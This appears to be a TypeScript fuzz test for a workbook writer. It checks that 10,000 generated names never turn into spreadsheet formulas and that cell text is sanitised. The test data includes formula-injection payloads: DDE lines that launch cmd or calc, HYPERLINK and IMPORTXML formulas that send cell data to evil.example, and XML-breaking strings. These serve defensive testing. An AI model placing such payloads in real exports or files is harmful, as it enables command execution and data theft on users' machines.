import { buffer } from 'node:stream/consumers';
import { cellText, longestCell } from '@tongcheng/cloudfunctions/app/workbooks/cell-text';
import { writeWorkbook } from '@tongcheng/cloudfunctions/app/workbooks/write-workbook';
import fc from 'fast-check';
import { strFromU8, unzipSync } from 'fflate';
import { readWorkbook } from './read-workbook';

const firsts = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '＝',
  '＋',
  '－',
  '＠',
  ' =',
  '"=',
  "'=",
  '\u202e=',
  '\u200b=',
  ';=',
  ',=',
  '_x003D_',
  '&#61;',
  ']]>',
  '',
];
const bodies = [
  "cmd|'/C calc'!A0",
  'HYPERLINK("http://evil.example/?x="&A1,"点击")',
  "SUM(1+1)*cmd|' /C notepad'!'A1'",
  'IMPORTXML("http://evil.example","//a")',
  'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  '<f>1+1</f>',
  '</t></is></c><c r="A1"><f>1+1</f></c>',
  '<![CDATA[=1+1]]>',
  '张三',
];

const hostileName = fc
  .tuple(fc.constantFrom(...firsts), fc.constantFrom(...bodies), fc.string({ unit: 'binary', maxLength: 12 }))
  .map(([first, body, rest]) => first + body + rest);

test('R-04 10,000 hostile names: no cell is a formula, in the XML or to an independent reader', async () => {
  const names = fc.sample(hostileName, { numRuns: 10_000, seed: 20_201_231 });
  const file = await buffer(
    writeWorkbook([
      {
        name: { zh: '姓名', en: 'Names' },
        tab: 1,
        columns: [{ heading: { zh: '姓名', en: 'Name' }, width: 20 }],
        rows: [names.map((name) => [name])],
      },
    ]),
  );
  const xml = strFromU8(unzipSync(new Uint8Array(file))['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
  expect(xml.match(/<f[ >/]/g)).toBeNull();
  expect(xml.match(/<c /g)?.length).toBe(10_001);
  expect(xml.match(/ t="inlineStr"/g)?.length).toBe(10_001);
  const [sheet] = await readWorkbook(file);
  expect(sheet?.live).toEqual([]);
  expect(sheet?.rows.slice(1).map(([name]) => name)).toEqual(names.map((name) => cellText(name)));
});

test('R-04 a cell holds no control, bidirectional or broken character, and is never too long', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), (text) => {
      const clean = cellText(text);
      expect(clean).not.toMatch(/[\p{Cc}\p{Cs}\u202a-\u202e\u2066-\u2069\u200e\u200f]/u);
      expect(cellText(clean)).toBe(clean);
    }),
  );
  expect(cellText('\ud800张\u202e三\r\n四')).toBe('\ufffd张三  四');
  expect(cellText('𠮷'.repeat(20_000)).length).toBeLessThanOrEqual(longestCell);
  expect(cellText('𠮷'.repeat(20_000))).not.toMatch(/\p{Cs}/u);
});

test('names as people have them are unchanged', () => {
  const names = ['张三', '买买提·艾力', '𠮷田', 'O’Brien-Ng', 'محمد', '㛃𬎆', 'Nguyễn Văn Á', '卓玛\u200c'];
  for (const name of names) expect(cellText(name)).toBe(name);
});
